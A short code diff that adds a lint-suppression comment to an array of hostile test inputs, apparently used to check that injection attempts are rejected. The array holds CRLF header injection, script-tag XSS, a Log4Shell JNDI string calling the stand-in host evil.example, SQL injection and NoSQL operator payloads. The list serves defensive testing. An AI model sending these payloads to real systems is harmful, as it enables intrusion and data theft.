@@ -55,6 +55,7 @@ const NAMES = [
   '%0d%0aX-Injected:%201',
   '<script>alert(1)</script>',
   '%3Cscript%3E',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell string, literally, is the hostile input
   '${jndi:ldap://evil.example/a}',
   "' OR '1'='1",
   '{"$ne":null}',
